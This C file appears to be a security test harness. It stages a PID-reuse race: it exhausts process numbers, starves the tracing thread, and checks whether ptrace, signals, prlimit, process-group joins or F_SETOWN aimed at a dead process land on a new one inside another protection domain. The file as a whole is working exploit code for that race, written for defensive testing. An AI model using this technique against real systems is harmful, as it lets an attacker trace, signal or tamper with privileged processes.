/* Traces (or signals, tunes) a process by a number that is another's by then: the call was decided, and its thread gets
 * no time to make it until the number has come to what enters another domain, or (outside) to a process outside, which tells
 * what became of it. Where numbers come again late, there is no attack. */
#include "attack.h"
#include <limits.h>
#include <linux/futex.h>
#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/resource.h>

enum { BUSY = 60, MOST_NUMBERS = 1 << 16, NEAR = 40, TURNS = 2, FILES = 77, SET_SIGNAL = 10 };
static const char *way;
static volatile pid_t victim;
static volatile int is_idle, goes, is_traced;
/* Whether those that are busy are. */
static volatile int *busy;

static int is_outside(void) { return !strncmp(way, "outside", 7); }

static int is_vault(pid_t pid) {
    char name[64], exe[PATH_MAX] = "";
    if (is_outside()) {
        snprintf(name, sizeof name, "/proc/%d/comm", pid);
        int comm = open(name, O_RDONLY);
        int got = comm < 0 ? 0 : read(comm, exe, sizeof exe - 1);
        close(comm);
        return got > 0 && !strncmp(exe, "outsider", 8);
    }
    snprintf(name, sizeof name, "/proc/%d/exe", pid);
    return readlink(name, exe, sizeof exe - 1) > 5 && !strcmp(exe + strlen(exe) - 6, "/vault");
}

static void stay_on(int cpu) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpu, &set);
    sched_setaffinity(0, sizeof set, &set);
}

/* Has no time but what others leave, on a processor where they leave none. */
static void *trace(void *none) {
    struct sched_param nothing = {0};
    stay_on(0);
    sched_setscheduler(0, SCHED_IDLE, &nothing);
    is_idle = 1;
    int pair[2] = {-1, -1}, signals = !strcmp(way, "outside_signal"), owns = !strcmp(way, "outside_owner");
    int joins = !strcmp(way, "outside_group");
    if (owns && (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) || fcntl(pair[0], SET_SIGNAL, SIGUSR2))) _exit(3);
    if (owns && fcntl(pair[0], F_SETFL, O_ASYNC)) _exit(3);
    while (!goes) continue;
    if (joins) {
        is_traced = !setpgid(0, victim);
        return none;
    }
    if (owns) {
        is_traced = !fcntl(pair[0], F_SETOWN, victim) && write(pair[1], "x", 1) == 1;
        return none;
    }
    if (signals) {
        is_traced = !kill(victim, SIGUSR2);
        return none;
    }
    if (!strcmp(way, "signal") || !strcmp(way, "tune") || is_outside()) {
        struct rlimit limit = {FILES, FILES};
        is_traced = !(*way == 's' ? kill(victim, SIGTERM) : prlimit(victim, RLIMIT_NOFILE, &limit, NULL));
        return none;
    }
    if (ptrace(PTRACE_SEIZE, victim, 0, 0)) return none;
    if (is_vault(victim)) escaped("traces another domain");
    is_traced = 1;
    ptrace(PTRACE_DETACH, victim, 0, 0);
    return none;
}

/* Has whoever decides wait for a while. */
static void *hold_up(void *none) {
    close(open("fifo", O_RDONLY));
    return none;
}

static void *nothing(void *none) { return none; }

/* By a domain between the two: whoever starts the vault may signal it. */
static void vault(void) {
    char *words[] = {"gate", "gate", NULL};
    execve("./gate", words, words + 2);
    _exit(1);
}

static int gate(void) {
    char *words[] = {"vault", NULL};
    execve("./vault", words, words + 1);
    return 1;
}

static void be_busy(void) {
    stay_on(0);
    for (;;) {
        syscall(SYS_futex, busy, FUTEX_WAIT, 0, NULL, NULL, 0);
        while (*busy) continue;
    }
}

static void keep_busy(int whether) {
    *busy = whether;
    syscall(SYS_futex, busy, FUTEX_WAKE, INT_MAX, NULL, NULL, 0);
}

/* Takes a few numbers; the first. */
static pid_t take_numbers(void) {
    pthread_t thread;
    pid_t taken = vfork();
    if (taken == 0) _exit(0);
    waitpid(taken, NULL, 0);
    for (int n = 0; n < NEAR / 4; n++)
        if (pthread_create(&thread, NULL, nothing, NULL) == 0) pthread_join(thread, NULL);
    return taken;
}

/* Takes all numbers but a few before that one, and has somebody outside take those. */
static void come_near(pid_t number) {
    pid_t taken = take_numbers();
    for (int n = 0; n < MOST_NUMBERS / NEAR * 4 && (taken >= number - NEAR / 4 || taken < number - 2 * NEAR); n++)
        taken = take_numbers();
    FILE *file = fopen("number.new", "w");
    fprintf(file, "%d\n", number);
    fclose(file);
    rename("number.new", "number");
}

/* Has a process of that number enter the vault, once it is free. */
static void come_to(pid_t number) {
    pid_t taken = take_numbers();
    for (int n = 0; n < MOST_NUMBERS / NEAR * 4 && (taken >= number || taken < number - NEAR); n++)
        taken = take_numbers();
    for (int n = 0; n < 2 * NEAR; n++) {
        pid_t child = fork();
        if (child == 0 && getpid() != number) _exit(0);
        if (child == 0) vault();
        if (child == number) return;
        waitpid(child, NULL, 0);
    }
}

static void turn(void) {
    pthread_t held, tracer;
    /* None of those before it is in use for long. */
    for (int n = 0; n < NEAR; n++) take_numbers();
    if ((victim = fork()) == 0) {
        setpgid(0, 0);
        pause();
        _exit(0);
    }
    setpgid(victim, victim);
    is_idle = goes = is_traced = 0;
    pthread_create(&tracer, NULL, trace, NULL);
    while (!is_idle) usleep(1000);
    pthread_create(&held, NULL, hold_up, NULL);
    usleep(5000);
    goes = 1;
    usleep(2000);
    keep_busy(1);
    close(open("fifo", O_WRONLY));
    usleep(50000);
    int early = is_traced;
    kill(victim, SIGKILL);
    setpgid(0, 0);
    /* Whoever decides may keep its number meanwhile. */
    int is_kept = 1;
    for (double end = now() + 2; is_kept && now() < end; usleep(1000)) is_kept = waitpid(victim, NULL, WNOHANG) != victim;
    if (is_kept) fprintf(stderr, "held: the number is kept\n");
    early |= is_kept;
    if (!early) is_outside() ? come_near(victim) : come_to(victim);
    for (double end = now() + (is_kept ? 0 : is_outside() ? 3 : 0.5); now() < end && !is_vault(victim);) usleep(1000);
    int there = is_vault(victim), status;
    fprintf(stderr, "reached %d before; the vault has the number: %d\n", early, there);
    keep_busy(0);
    pthread_join(tracer, NULL);
    usleep(10000);
    if (is_outside()) {
        unlink("number");
        pthread_join(held, NULL);
        return;
    }
    struct rlimit limit;
    if (there && !prlimit(victim, RLIMIT_NOFILE, NULL, &limit) && limit.rlim_cur == FILES) escaped("tunes another domain");
    if (there && waitpid(victim, &status, WNOHANG) == victim && WIFSIGNALED(status)) escaped("signals another domain");
    pthread_join(held, NULL);
    kill(victim, SIGKILL);
    waitpid(victim, NULL, 0);
}

static int attack(void) {
    FILE *file = fopen("/proc/sys/kernel/pid_max", "r");
    int most = 0;
    if (!file || fscanf(file, "%d", &most) != 1) return 3;
    if (most > MOST_NUMBERS) {
        fprintf(stderr, "no attack: there are %d numbers\n", most);
        return 0;
    }
    /* From now on domains are told apart. */
    pid_t child = is_outside() ? 0 : fork();
    if (child == 0 && !is_outside()) vault();
    if (child) waitpid(child, NULL, 0);
    mkfifo("fifo", 0600);
    busy = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (int n = 0; n < BUSY; n++)
        if (fork() == 0) be_busy();
    stay_on(1);
    for (int n = 0; n < TURNS; n++) turn();
    return 0;
}

/* Who has traced another than was decided is killed. */
int main(int argc, char **argv) {
    int status;
    way = argc > 1 ? argv[1] : "trace";
    if (!strcmp(way, "gate")) return gate();
    pid_t child = fork();
    if (child == 0) _exit(attack());
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) fprintf(stderr, "held: killed by signal %d\n", WTERMSIG(status));
    return WIFEXITED(status) ? WEXITSTATUS(status) : 0;
}
